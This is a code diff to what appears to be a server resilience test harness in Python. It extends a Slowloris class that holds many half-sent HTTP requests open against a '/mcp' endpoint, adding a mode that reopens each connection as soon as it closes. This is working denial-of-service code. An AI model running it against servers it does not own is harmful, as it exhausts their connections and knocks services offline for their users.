@@ -24,10 +24,11 @@ class Victim:
 
 class Slowloris:
     """``heads`` connections that send half a request head, ``bodies`` that send a whole head announcing
-    ``body_size`` bytes and then half of them; each waits for the server to close it."""
+    ``body_size`` bytes and then half of them; each waits for the server to close it (and with
+    ``again``, opens another at once, as an attacker keeping up the pressure would)."""
 
     def __init__(self, url: str, heads: int, bodies: int, body_size: int = 4 * 1024 * 1024,
-                 path: str = "/mcp") -> None:
+                 path: str = "/mcp", again: bool = False) -> None:
         parts = urlsplit(url)
         self.host = parts.hostname or "127.0.0.1"
         self.port = parts.port or 80
@@ -37,6 +38,8 @@ class Slowloris:
                 f"Content-Type: application/json\r\nContent-Length: {body_size}\r\n\r\n").encode()
         self._partial_head = head[:len(head) // 2]
         self._partial_body = head + b" " * (body_size // 2)
+        self._again = again
+        self.reopened = 0
         self._opening = asyncio.Semaphore(200)  # connections being opened at once
         self._tasks: list[asyncio.Task[None]] = []
 
@@ -54,6 +57,13 @@ class Slowloris:
         return sum(1 for v in self.victims if v.sent_at and not v.closed_at)
 
     async def _hold(self, victim: Victim, data: bytes) -> None:
+        await self._hold_once(victim, data)
+        while self._again:
+            self.reopened += 1
+            await self._hold_once(victim, data)
+
+    async def _hold_once(self, victim: Victim, data: bytes) -> None:
+        victim.closed_at = 0.0
         async with self._opening:
             reader, writer = await asyncio.open_connection(self.host, self.port)
             writer.write(data)
